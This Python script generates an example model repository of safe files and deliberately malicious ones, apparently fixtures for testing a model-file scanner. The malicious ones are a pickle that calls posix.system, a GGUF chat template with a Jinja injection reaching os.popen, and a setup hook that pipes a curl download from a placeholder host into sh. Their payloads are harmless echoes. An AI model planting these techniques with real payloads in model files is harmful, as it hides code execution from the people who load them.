"""Makes examples/model-repository: a small model repository with sound artefacts and bad ones.

The bad ones only ever print a line, should anyone load them: they show what a scanner sees, not what an attacker does.

    python examples/make.py
"""

import io
import json
import pickle
import struct
import zipfile
from collections import OrderedDict
from pathlib import Path

HERE = Path(__file__).parent / "model-repository"
COMMAND = "echo this line was printed by a model file"

CARD = """---
license: apache-2.0
language: [en, zh]
base_model: example/tiny-base
datasets: [example/tiny-stories]
library_name: transformers
---
# tiny-example

A model of a few numbers. It answers nothing; it is here to be scanned.
"""

TEMPLATE = (
    "{% for message in messages %}<|{{ message['role'] }}|>\n{{ message['content'] }}<|end|>\n{% endfor %}"
    "{% if add_generation_prompt %}<|assistant|>\n{% endif %}"
)
EVIL_TEMPLATE = TEMPLATE + "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}"


def safetensors() -> bytes:
    """Two float32 tensors with a plain header."""
    values = struct.pack("<12f", *(i / 7 for i in range(12)))
    header = {
        "__metadata__": {"format": "pt"},
        "embed.weight": {"dtype": "F32", "shape": [2, 4], "data_offsets": [0, 32]},
        "head.weight": {"dtype": "F32", "shape": [4], "data_offsets": [32, 48]},
    }
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + values


def _string(value: str) -> bytes:
    data = value.encode()
    return struct.pack("<Q", len(data)) + data


def gguf(template: str) -> bytes:
    """A GGUF v3 file with one tensor and a chat template."""
    metadata = [("general.architecture", "llama"), ("general.name", "tiny-example"), ("tokenizer.chat_template", template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(metadata))
    for key, value in metadata:
        out += _string(key) + struct.pack("<I", 8) + _string(value)
    out += _string("token_embd.weight") + struct.pack("<I", 1) + struct.pack("<Q", 8) + struct.pack("<IQ", 0, 0)
    out += b"\0" * (-len(out) % 32)
    return out + struct.pack("<8f", *(i / 3 for i in range(8)))


def torch_zip(program: bytes) -> bytes:
    """A file as torch.save writes it: a zip of stored members around data.pkl."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        members = {"data.pkl": program, "byteorder": b"little", "version": b"3\n"}
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(f"pytorch_model/{name}", (1980, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def evil_pickle() -> bytes:
    """Protocol 2: posix.system is looked up by name and called, then an ordinary dict is left as the result."""
    return b"\x80\x02cposix\nsystem\n" + _text(COMMAND) + b"\x85R0}" + _text("step") + b"K\x01s."


def unknown_pickle() -> bytes:
    """An object of a class that no allow-list knows."""
    return b"\x80\x02cacme_trainer.state\nTrainerState\n)\x81}" + _text("epoch") + b"K\x03sb."


def tokenizer() -> str:
    vocab = {"<unk>": 0, "<s>": 1, "</s>": 2, "hello": 3, "world": 4}
    special = [
        {"id": i, "content": t, "single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True}
        for t, i in list(vocab.items())[:3]
    ]
    model = {"type": "WordLevel", "vocab": vocab, "unk_token": "<unk>"}
    whole = {
        "version": "1.0", "truncation": None, "padding": None, "added_tokens": special, "normalizer": None,
        "pre_tokenizer": {"type": "Whitespace"}, "post_processor": None, "decoder": None, "model": model,
    }  # fmt: skip
    return json.dumps(whole, indent=1)


def main() -> None:
    config = {
        "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4, "num_hidden_layers": 1,
        "num_attention_heads": 1, "vocab_size": 5, "torch_dtype": "float32",
    }  # fmt: skip
    files: dict[str, bytes | str] = {
        "README.md": CARD,
        "config.json": json.dumps(config, indent=1),
        "requirements.txt": "torch==2.9.0\ntransformers==4.57.0\n",
        "tokenizer.json": tokenizer(),
        "tokenizer_config.json": json.dumps({"chat_template": TEMPLATE, "eos_token": "</s>"}, indent=1),
        "model.safetensors": safetensors(),
        "good.gguf": gguf(TEMPLATE),
        "optimizer.pkl": pickle.dumps(OrderedDict(step=7, betas=(0.9, 0.999), lr=1e-4), protocol=4),
        "bad/pytorch_model.bin": torch_zip(evil_pickle()),
        "bad/template.gguf": gguf(EVIL_TEMPLATE),
        "bad/trainer_state.pkl": unknown_pickle(),
        "bad/setup_hook.sh": "#!/bin/sh\ncurl -fsSL http://example.invalid/run.sh | sh\n",
        "bad/unknown.bin": bytes((i * 167 + 13) % 251 for i in range(256)),
    }
    for name, data in files.items():
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)


if __name__ == "__main__":
    main()
